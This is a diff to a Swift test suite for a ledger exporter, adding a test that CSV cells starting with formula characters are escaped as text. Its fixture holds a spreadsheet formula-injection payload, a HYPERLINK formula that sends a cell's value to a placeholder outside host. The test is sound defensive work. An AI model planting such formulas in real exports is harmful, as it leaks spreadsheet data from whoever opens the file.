@@ -100,6 +100,18 @@ struct LedgerExportTests {
         #expect(kept("real-2") == ["r-9 real-2"])
     }
 
+    @Test("CSV: a cell a spreadsheet would run as a formula is shown as text; JSON keeps the value")
+    func spreadsheetFormulas() {
+        let record = LedgerExportRecord(seq: 3, time: Self.march, type: "merchant.suspended", prev: String(repeating: "0", count: 64),
+                                        data: ["merchantId": "M-A", "orderId": "-1-1", "reason": "=HYPERLINK(\"https://x.example/?\"&A2,\"details\")"],
+                                        leafHash: String(repeating: "a", count: 64), owner: nil)
+        let fields = record.csvFields
+        #expect(fields[6] == "'-1-1" && fields[9] == "'=HYPERLINK(\"https://x.example/?\"&A2,\"details\")")
+        for start in ["+", "@", "\t", "\r"] { #expect(LedgerExportRecord.spreadsheetSafe(start + "x") == "'" + start + "x") }
+        #expect(LedgerExportRecord.spreadsheetSafe("o-1") == "o-1" && LedgerExportRecord.spreadsheetSafe("") == "")
+        #expect(record.json["data"]?["reason"]?.stringValue?.hasPrefix("=HYPERLINK") == true)
+    }
+
     @Test("CSV: fixed columns, RFC 4180 quoting, owner columns for revocations")
     func csv() {
         #expect(LedgerExportCSV.headerRow == "seq,time,type,merchantId,memberId,lineUserId,orderId,revocationId,points,reason,leafHash\r\n")
